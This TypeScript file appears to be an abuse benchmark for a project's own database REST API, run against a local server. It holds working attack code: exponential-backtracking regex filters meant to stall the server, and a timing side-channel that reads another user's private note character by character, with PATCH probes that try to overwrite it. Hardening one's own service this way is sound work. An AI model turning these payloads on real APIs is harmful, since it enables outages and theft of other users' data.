/**
 * The REST attacks of the abuse benchmark. `regex`: patterns that backtrack exponentially (`^(a|a)*$` and kin) over
 * trap rows, anonymous on a public-read table and signed in on the user's own rows. `timing`: a signed-in user tries
 * to read another user's private note one character at a time from how long a filter takes (reads and PATCH), the
 * probe that recovered `Kq7pZ-` before caller filters ran on the caller's rows only.
 */
import http from 'node:http';
import { createAccessTokenCodec } from '../../apps/server/src/http/access-token';
import { bump, type Counts } from './measure';

export const ABUSE_JWT_SECRET = 'bench-abuse-secret-bench-abuse-secret-0123456789';
/** The project migration the server starts with: a private table and a public-read one. */
export const ABUSE_MIGRATION = `CREATE TABLE notes (id TEXT PRIMARY KEY, user_id TEXT NOT NULL, title TEXT NOT NULL);
-- @policy notes owner(user_id)
CREATE TABLE announcements (id TEXT PRIMARY KEY, body TEXT NOT NULL);
-- @policy announcements public-read
`;

const SECRET = 'Kq7pZ-victim-note';
const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-';
const TRAP = `${'a'.repeat(28)}!`;
const FILLER_ROWS = 2_000;

export interface RestTarget {
  port: number;
  project: string;
  serviceKey: string;
  /** The attacker's source address. */
  from: string;
}

/** One request; resolves with the status (or the error code) and the time it took. */
function call(target: RestTarget, method: string, path: string, authorization?: string, body?: unknown) {
  const payload = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
  const headers: Record<string, string | number> = { 'content-type': 'application/json' };
  if (authorization) headers.authorization = authorization;
  if (payload) headers['content-length'] = payload.length;
  const started = performance.now();
  return new Promise<{ status: number | string; ms: number; text: string }>((resolve) => {
    const request = http.request({ host: '127.0.0.1', port: target.port, path, method, localAddress: target.from, headers }, (response) => {
      let text = '';
      response.on('data', (chunk: Buffer) => {
        text += chunk.toString();
      });
      response.on('end', () => resolve({ status: response.statusCode ?? 0, ms: performance.now() - started, text }));
    });
    request.setTimeout(60_000, () => request.destroy(new Error('timeout')));
    request.on('error', (error: NodeJS.ErrnoException) =>
      resolve({ status: error.code ?? error.message, ms: performance.now() - started, text: '' }),
    );
    request.end(payload);
  });
}

const rest = (target: RestTarget, table: string, query = '') => `/api/db/${target.project}/rest/v1/${table}${query ? `?${query}` : ''}`;
const bearer = (token: string) => `Bearer ${token}`;
const tokenOf = (userId: string) =>
  createAccessTokenCodec(ABUSE_JWT_SECRET).sign({ userId, email: `${userId}@example.test`, role: 'user' }, 3600);

/** The victim's rows as the service key reads them, for the before/after comparison. */
async function victimRows(target: RestTarget): Promise<string> {
  const service = bearer(target.serviceKey);
  const notes = await call(target, 'GET', rest(target, 'notes', 'user_id=eq.victim&order=id'), service);
  const systems = await call(target, 'GET', rest(target, 'logo_systems', 'user_id=eq.victim&order=id'), service);
  return `${notes.text}\n${systems.text}`;
}

/** Seeds trap rows, the victim's rows and filler (so that a scan of other users' rows would cost), once. */
async function seed(target: RestTarget): Promise<void> {
  const service = bearer(target.serviceKey);
  const post = async (table: string, rows: unknown[]) => {
    const answer = await call(target, 'POST', rest(target, table), service, rows);
    if (answer.status !== 201) throw new Error(`seeding ${table}: ${answer.status} ${answer.text}`);
  };
  const filler = Array.from({ length: FILLER_ROWS }, (_, i) => ({ id: `f${i}`, user_id: `filler${i % 50}`, title: `${TRAP}${i}` }));
  const announcements = Array.from({ length: FILLER_ROWS }, (_, i) => ({ id: `a${i}`, body: TRAP }));
  // At most 1,000 rows per request.
  for (let start = 0; start < FILLER_ROWS; start += 1_000) {
    await post('notes', filler.slice(start, start + 1_000));
    await post('announcements', announcements.slice(start, start + 1_000));
  }
  await post('notes', [
    { id: 'secret', user_id: 'victim', title: SECRET },
    { id: 'own', user_id: 'attacker', title: TRAP },
  ]);
  const system = (id: string, userId: string, brand: string) => ({
    id,
    user_id: userId,
    brand_name: brand,
    industry: 'Coffee',
    designer_dna: 'paul-rand',
  });
  await post('logo_systems', [system('trap', 'attacker', TRAP), system('victim1', 'victim', SECRET)]);
}

let seeded: Promise<void> | undefined;
async function prepare(target: RestTarget) {
  seeded ??= seed(target);
  await seeded;
  return { attacker: bearer(await tokenOf('attacker')), before: await victimRows(target) };
}

/** Records whether the victim's rows are as they were. */
async function checkVictim(target: RestTarget, before: string, counts: Counts): Promise<void> {
  counts.victimRowsUnchanged = (await victimRows(target)) === before ? 1 : 0;
}

const REGEX_TRAPS = ['^(a|a)*$', '^(a|aa)*$', '^(a+)+$', '^(a?){28}a{28}$', '^(.*a){20}$'];

/** H1: exponential-backtracking patterns, anonymous on a public-read table and signed in on the user's own rows. */
export async function regexAttack(target: RestTarget, until: number, counts: Counts): Promise<void> {
  const { attacker, before } = await prepare(target);
  let i = 0;
  const next = () => {
    const pattern = encodeURIComponent(REGEX_TRAPS[i % REGEX_TRAPS.length] as string);
    const operator = i % 2 === 0 ? 'match' : 'imatch';
    const kind = i++ % 3;
    if (kind === 0) return { path: rest(target, 'announcements', `select=id&body=${operator}.${pattern}`), auth: undefined };
    if (kind === 1) return { path: rest(target, 'notes', `select=id&title=${operator}.${pattern}`), auth: attacker };
    return { path: rest(target, 'logo_systems', `select=id&brand_name=${operator}.${pattern}`), auth: attacker };
  };
  await Promise.all(
    Array.from({ length: 6 }, async () => {
      while (Date.now() < until) {
        const request = next();
        bump(counts, (await call(target, 'GET', request.path, request.auth)).status);
      }
    }),
  );
  await checkVictim(target, before, counts);
}

/** The median time of a probe for one guess; PATCH probes try to rename the victim's note too. */
async function probe(target: RestTarget, attacker: string, guess: string, counts: Counts): Promise<number> {
  const pattern = encodeURIComponent(`^${guess}(.|.)*(.|.)*(.|.)*(.|.)*$`);
  const times: number[] = [];
  for (let round = 0; round < 3; round++) {
    const patch = round === 2;
    const answer = patch
      ? await call(target, 'PATCH', rest(target, 'notes', `title=match.${pattern}`), attacker, { title: 'pwned' })
      : await call(target, 'GET', rest(target, 'notes', `select=id&title=match.${pattern}`), attacker);
    bump(counts, `${patch ? 'patch' : 'get'}:${answer.status}`);
    times.push(answer.ms);
  }
  return times.sort((a, b) => a - b)[1] as number;
}

/** H2: recovers the victim's note one character at a time by timing, and reports how much of it came out. */
export async function timingAttack(target: RestTarget, until: number, counts: Counts): Promise<void> {
  const { attacker, before } = await prepare(target);
  let recovered = '';
  while (Date.now() < until && recovered.length < 6) {
    let best = { guess: '', ms: -1 };
    for (const letter of ALPHABET) {
      if (Date.now() >= until) break;
      const ms = await probe(target, attacker, `${recovered}${letter}`, counts);
      if (ms > best.ms) best = { guess: `${recovered}${letter}`, ms };
    }
    recovered = best.guess;
  }
  let correct = 0;
  while (correct < recovered.length && recovered[correct] === SECRET[correct]) correct += 1;
  counts.charactersGuessed = recovered.length;
  counts.charactersRight = correct;
  await checkVictim(target, before, counts);
}
